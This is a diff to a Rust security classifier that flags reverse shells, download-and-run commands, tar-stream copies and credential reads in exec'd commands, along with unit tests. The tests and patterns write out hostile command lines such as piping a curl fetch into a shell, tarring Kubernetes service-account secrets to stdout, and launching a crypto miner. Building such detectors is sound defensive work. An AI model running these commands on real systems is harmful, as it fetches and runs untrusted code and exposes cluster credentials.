@@ -114,83 +114,101 @@ fn is_reverse_shell(lower: &str) -> bool {
     let has = |w: &str| words(lower).any(|x| x == w);
     let netcat =
         has("nc") || has("ncat") || has("netcat") || has("nc.traditional") || has("nc.openbsd");
-    let scripted_socket = (lower.contains("socket")
-        && (lower.contains("connect") || lower.contains("subprocess")))
-        || lower.contains("fsockopen")
-        || lower.contains("tcpsocket");
+    // A shell being handed a socket: duplicated descriptors, a pty, or a shell started from
+    // the same script that opened the connection.
+    let spawns_shell = lower.contains("dup2")
+        || lower.contains("pty.spawn")
+        || lower.contains("/bin/sh")
+        || lower.contains("/bin/bash")
+        || lower.contains("sh -i")
+        || lower.contains("cmd.exe")
+        || lower.contains("exec(");
+    let scripted_socket =
+        (lower.contains("socket") || lower.contains("fsockopen") || lower.contains("tcpsocket"))
+            && spawns_shell;
     lower.contains("/dev/tcp/")
         || lower.contains("/dev/udp/")
         || (netcat
             && (lower.contains(" -e ")
                 || lower.contains(" -c ")
                 || lower.contains("mkfifo")
-                || lower.contains("/bin/sh")
-                || lower.contains("/bin/bash")))
+                || spawns_shell))
         || (lower.contains("mkfifo") && (netcat || has("openssl") || has("telnet")))
         || (has("socat")
             && (lower.contains("exec:") || lower.contains("tcp:") || lower.contains("tcp4:")))
-        || lower.contains("pty.spawn")
         || scripted_socket
 }
 
 fn is_download_and_run(lower: &str) -> bool {
-    let fetches = [
+    const FETCH: &[&str] = &[
         "curl",
         "wget",
-        "fetch",
+        "fetch ",
         "busybox wget",
-        "python -c",
-        "python3 -c",
         "invoke-webrequest",
         "iwr ",
-    ]
-    .iter()
-    .any(|f| lower.contains(f));
-    if !fetches {
+        "urllib",
+        "requests.get",
+    ];
+    if !FETCH.iter().any(|f| lower.contains(f)) {
         return false;
     }
-    let pipes_to_shell = lower.split('|').skip(1).any(|seg| {
-        let first = seg.split_whitespace().next().unwrap_or_default();
-        is_shell(first)
+    let interpreter = |w: &str| {
+        is_shell(w)
             || matches!(
-                program(first),
+                program(w),
                 "python" | "python3" | "perl" | "ruby" | "php" | "node" | "sudo"
             )
-    });
+    };
+    // curl … | sh
+    let pipes_to_shell = lower
+        .split('|')
+        .skip(1)
+        .any(|seg| seg.split_whitespace().next().is_some_and(interpreter));
+    // sh -c "$(curl …)", bash <(curl …), `wget -O- …`
+    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
+        .iter()
+        .any(|p| lower.contains(p));
+    // curl -o x …  && sh x / ; ./x / chmod +x
     let runs_file = lower.contains("chmod +x")
-        || lower.contains("chmod 777")
-        || lower.contains("chmod 755")
-        || lower.contains("&& ./")
-        || lower.contains("; ./")
+        || lower.contains("chmod 7")
+        || lower.contains("chmod 5")
+        || ["&&", ";"].iter().any(|sep| {
+            lower.split(sep).skip(1).any(|seg| {
+                let first = seg.split_whitespace().next().unwrap_or_default();
+                first.starts_with("./")
+                    || first.starts_with("/tmp/")
+                    || first.starts_with("/dev/shm/")
+                    || interpreter(first)
+            })
+        })
         || lower.contains("| iex")
         || lower.contains("exec(");
-    let fetched_from_url =
-        lower.contains("http://") || lower.contains("https://") || lower.contains("ftp://");
-    (pipes_to_shell || runs_file)
-        && (fetched_from_url || lower.contains("curl") || lower.contains("wget"))
+    pipes_to_shell || substituted || runs_file
 }
 
+/// `tar` reading or writing its archive on stdin/stdout (`tar cf - …`, `tar xmf - -C …`):
+/// how kubectl cp moves files. Looks inside `sh -c` strings too.
 fn is_tar_copy(argv: &[String]) -> bool {
-    let Some(first) = argv.first() else {
-        return false;
-    };
-    let tar_at = if program(first) == "tar" {
-        Some(0)
-    } else {
-        argv.iter().position(|a| program(a) == "tar")
-    };
-    let Some(i) = tar_at else {
-        return false;
-    };
-    let rest = argv[i + 1..].join(" ");
-    rest.contains("cf -")
-        || rest.contains("xf -")
-        || rest.contains("xmf -")
-        || rest.contains("-cf -")
-        || rest.contains("czf -")
-        || rest.starts_with("cf")
-        || rest.starts_with("xmf")
-        || rest.starts_with("xf")
+    let joined = argv.join(" ");
+    let tokens: Vec<&str> = joined
+        .split(|c: char| c.is_whitespace() || c == ';' || c == '|' || c == '&')
+        .filter(|t| !t.is_empty())
+        .collect();
+    tokens
+        .iter()
+        .enumerate()
+        .filter(|(_, t)| program(t) == "tar")
+        .any(|(i, _)| {
+            let rest = &tokens[i + 1..];
+            rest.windows(2).any(|w| {
+                let flags = w[0].trim_start_matches('-');
+                w[1] == "-"
+                    && flags.ends_with('f')
+                    && flags.chars().all(|c| c.is_ascii_alphabetic())
+                    && (flags.contains('c') || flags.contains('x'))
+            }) || rest.iter().any(|a| *a == "--file=-")
+        })
 }
 
 const CREDENTIAL_PATHS: &[&str] = &[
@@ -295,6 +313,8 @@ mod tests {
             assert!(c(argv).contains(&"reverse-shell"), "{argv:?}");
         }
         assert!(!c(&["echo", "bash -i is a flag"]).contains(&"reverse-shell"));
+        let db_check = "import socket; socket.create_connection((\"db\", 5432), timeout=2)";
+        assert!(!c(&["python3", "-c", db_check]).contains(&"reverse-shell"));
     }
 
     #[test]
@@ -314,6 +334,19 @@ mod tests {
             .contains(&"download-and-run")
         );
         assert!(!c(&["curl", "-s", "http://localhost:8080/healthz"]).contains(&"download-and-run"));
+        assert!(
+            c(&["sh", "-c", "sh -c \"$(curl -fsSL https://x.example/i.sh)\""])
+                .contains(&"download-and-run")
+        );
+        assert!(
+            c(&[
+                "sh",
+                "-c",
+                "curl -o /tmp/x.sh https://h/x.sh && sh /tmp/x.sh"
+            ])
+            .contains(&"download-and-run")
+        );
+        assert!(c(&["bash", "-c", "bash <(curl -s https://h/x)"]).contains(&"download-and-run"));
     }
 
     #[test]
@@ -334,6 +367,19 @@ mod tests {
             vec!["credential-read", "tar-copy"]
         );
         assert_eq!(c(&["tar", "xmf", "-", "-C", "/tmp"]), vec!["tar-copy"]);
+        assert_eq!(
+            c(&[
+                "tar",
+                "-czf",
+                "-",
+                "/var/run/secrets/kubernetes.io/serviceaccount"
+            ]),
+            vec!["credential-read", "tar-copy"]
+        );
+        assert_eq!(
+            c(&["tar", "cf", "/tmp/data.tar", "/data"]),
+            Vec::<&str>::new()
+        );
         assert_eq!(c(&["id"]), vec!["discovery"]);
         assert_eq!(c(&["/tmp/xmrig", "-o", "pool"]), vec!["tooling"]);
     }
